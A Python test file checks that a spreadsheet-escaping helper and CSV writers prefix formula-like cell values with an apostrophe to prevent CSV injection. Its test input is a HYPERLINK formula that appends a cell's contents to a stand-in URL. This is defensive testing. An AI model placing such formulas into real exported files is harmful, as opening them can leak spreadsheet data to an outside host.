"""Words of others in a CSV: a spreadsheet shows them, and evaluates none."""

from __future__ import annotations

import csv
from pathlib import Path

import pytest

from lora_lightning.app.prediction_files import write_rows
from lora_lightning.tasks.classification_tables import write_per_class
from lora_lightning.utils.spreadsheet import safe_cell

FORMULA = '=HYPERLINK("http://x/?"&A1)'


@pytest.mark.parametrize("word", ["=1+1", "+1+1", "-cat", "@SUM(A1)", "\t=1", "\r=1"])
def test_what_begins_like_a_formula_is_text(word: str) -> None:
    assert safe_cell(word) == f"'{word}"


@pytest.mark.parametrize("word", ["", "cat", "-1", "+2.5e3", "1=1", "a-b", "'quoted"])
def test_all_else_stays(word: str) -> None:
    assert safe_cell(word) == word


def test_tables_for_spreadsheets_have_no_formulas(tmp_path: Path) -> None:
    rows = [{"path": "=a.jpg", "label": FORMULA, "labels": ["=1", "b"], "value": -0.5}, {"path": "b.jpg"}]
    write_rows(tmp_path / "x.csv", ["path", "label", "labels", "value", FORMULA], rows)
    with open(tmp_path / "x.csv", newline="", encoding="utf-8") as file:
        header, first, second = csv.reader(file)
    assert header[-1] == f"'{FORMULA}"
    assert first == ["./=a.jpg", f"'{FORMULA}", "'=1;b", "-0.5", ""] and second[0] == "b.jpg"
    write_rows(tmp_path / "x.json", ["path", "label"], rows)  # programs have it as it is
    assert '"path": "=a.jpg"' in (tmp_path / "x.json").read_text()
    write_per_class(tmp_path / "per_class.csv", ["class", "f1"], [[FORMULA, -1]])
    with open(tmp_path / "per_class.csv", newline="", encoding="utf-8") as file:
        assert list(csv.reader(file))[1] == [f"'{FORMULA}", "-1"]
